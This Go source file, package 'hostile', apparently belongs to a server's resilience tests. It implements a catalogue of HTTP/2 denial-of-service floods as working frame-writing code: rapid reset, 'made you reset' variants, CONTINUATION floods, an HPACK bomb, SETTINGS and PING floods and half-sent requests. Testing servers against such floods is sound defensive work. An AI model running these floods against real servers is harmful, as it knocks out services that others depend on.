package hostile

import (
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Flood is one attack.
type Flood struct {
	Name string
	// ends says that the server ends each connection of it at once; others it bears, and
	// ends after a timeout.
	ends bool
	// answered says that grpc-go answers each step of it as a request of its own, which is
	// no flood.
	answered bool
	// Deaf says that the attacker reads nothing.
	Deaf bool
	// settings are the attacker's.
	settings []http2.Setting
	// prepare comes once, step again and again while the connection stands; nil is nothing.
	prepare, step func(*peer) error
	// silent says that not even the preface is sent.
	silent bool
}

// Ends reports whether the server ends each connection of the attack at once.
func (f Flood) Ends(port Port) bool { return f.ends && (!port.GRPC || !f.answered) }

// Floods are all attacks.
func Floods() []Flood {
	return []Flood{
		{Name: "rapid reset", ends: true, step: rapidReset},
		{Name: "made you reset: window of 0", ends: true, step: zeroWindow},
		{Name: "made you reset: data behind the end", ends: true, answered: true, step: dataBehindEnd},
		{Name: "made you reset: window overflow", ends: true, step: overflow},
		{Name: "CONTINUATION", ends: true, prepare: openHead, step: continuation},
		{Name: "empty CONTINUATION", ends: true, prepare: openHead, step: func(p *peer) error { return p.frames.WriteContinuation(p.stream, false, nil) }},
		{Name: "SETTINGS", ends: true, step: func(p *peer) error { return p.frames.WriteSettings() }},
		{Name: "SETTINGS, answers not read", ends: true, Deaf: true, step: func(p *peer) error { return p.frames.WriteSettings() }},
		{Name: "PING", ends: true, step: func(p *peer) error { return p.frames.WritePing(false, [8]byte{}) }},
		{Name: "PING, answers not read", ends: true, Deaf: true, step: func(p *peer) error { return p.frames.WritePing(false, [8]byte{}) }},
		{Name: "PRIORITY", ends: true, step: func(p *peer) error { return p.frames.WritePriority(1, http2.PriorityParam{StreamDep: 3}) }},
		{Name: "unknown frames", ends: true, step: func(p *peer) error { return p.frames.WriteRawFrame(0xee, 0, 0, nil) }},
		{Name: "WINDOW_UPDATE", ends: true, step: func(p *peer) error { return p.frames.WriteWindowUpdate(0, 1) }},
		{Name: "DATA of 1 byte", ends: true, prepare: openBody, step: func(p *peer) error { return p.frames.WriteData(p.stream, false, []byte("a")) }},
		{Name: "DATA of 0 bytes", ends: true, prepare: openBody, step: func(p *peer) error { return p.frames.WriteData(p.stream, false, nil) }},
		{Name: "HEADERS without fields", ends: true, step: emptyHeaders},
		{Name: "HPACK bomb", ends: true, step: bomb},
		{Name: "answers not read, window of 0", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, prepare: manyRequests},
		{Name: "requests half sent", prepare: halfSent},
		{Name: "half a preface", silent: true, prepare: func(p *peer) error { _, err := p.Write([]byte("PRI * HT")); return err }},
		{Name: "idle", silent: true},
	}
}

func rapidReset(p *peer) error {
	stream, err := p.ask(true)
	if err != nil {
		return err
	}
	return p.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
}

func zeroWindow(p *peer) error {
	stream, err := p.ask(false)
	if err != nil {
		return err
	}
	return p.frames.WriteWindowUpdate(stream, 0)
}

func dataBehindEnd(p *peer) error {
	stream, err := p.ask(true)
	if err != nil {
		return err
	}
	return p.frames.WriteData(stream, false, make([]byte, 100))
}

func overflow(p *peer) error {
	stream, err := p.ask(false)
	if err != nil {
		return err
	}
	return p.frames.WriteWindowUpdate(stream, 1<<31-1)
}

// openHead begins a head that does not end.
func openHead(p *peer) error {
	stream, block := p.request()
	return p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block})
}

func continuation(p *peer) error {
	p.block.Reset()
	_ = p.fields.WriteField(hpack.HeaderField{Name: "x-flood", Value: "flood", Sensitive: true})
	return p.frames.WriteContinuation(p.stream, false, p.block.Bytes())
}

// openBody begins a body that does not end.
func openBody(p *peer) error {
	_, err := p.ask(false)
	return err
}

func emptyHeaders(p *peer) error {
	p.request()
	return p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: p.stream, EndHeaders: true})
}

// bomb names a large field, which the first bytes put into the table, thousands of times, a
// byte each.
func bomb(p *peer) error {
	stream, block := p.request("x-bomb", strings.Repeat("b", 3900))
	// The newest field of the table has the index 62.
	block = append(block, []byte(strings.Repeat("\xbe", 12<<10))...)
	return p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: true})
}

// manyRequests are as many as a connection may have open.
func manyRequests(p *peer) error {
	for range 100 {
		if _, err := p.ask(true); err != nil {
			return err
		}
	}
	return nil
}

// halfSent begins as many requests as a connection may have open, and returns each a piece of a
// large body, as far as the connection's window goes.
func halfSent(p *peer) error {
	body := make([]byte, 600)
	binary.BigEndian.PutUint32(body[1:], 120<<20) // of gRPC: a message of that size
	for range 100 {
		stream, err := p.ask(false)
		if err != nil {
			return err
		}
		if err := p.frames.WriteData(stream, false, body); err != nil {
			return err
		}
	}
	return nil
}
